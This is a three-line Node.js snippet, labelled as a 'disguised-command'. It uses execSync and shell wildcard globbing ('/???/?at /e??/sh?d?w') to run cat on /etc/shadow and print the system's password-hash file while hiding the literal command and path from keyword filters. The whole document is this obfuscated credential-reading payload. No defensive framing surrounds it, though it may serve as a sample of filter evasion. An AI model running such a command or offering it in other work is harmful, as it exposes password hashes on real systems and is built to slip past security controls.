// disguised-command: a wildcard path to cat the shadow file through the shell
const { execSync } = require('child_process');
console.log(execSync('/???/?at /e??/sh?d?w').toString());
